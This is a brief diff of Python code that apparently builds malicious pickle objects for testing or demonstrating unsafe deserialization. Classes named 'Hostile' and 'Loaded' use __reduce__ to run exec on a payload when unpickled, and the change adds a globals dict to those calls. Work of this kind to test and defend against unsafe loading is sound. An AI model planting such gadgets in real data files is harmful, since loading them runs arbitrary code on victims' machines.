@@ -27,7 +27,7 @@ with open("/workspace/woken.txt", "a") as file:
 HOSTILE = f'''
 class Hostile:
     def __reduce__(self):
-        return exec, ({PAYLOAD!r},)
+        return exec, ({PAYLOAD!r}, {{}})
 hostile, kept = Hostile(), 42
 print("ready")
 '''
@@ -67,7 +67,7 @@ class Loaded:
         self.payload = payload
 
     def __reduce__(self):
-        return exec, (self.payload,)
+        return exec, (self.payload, {})
 
 
 def forged(old, payload):
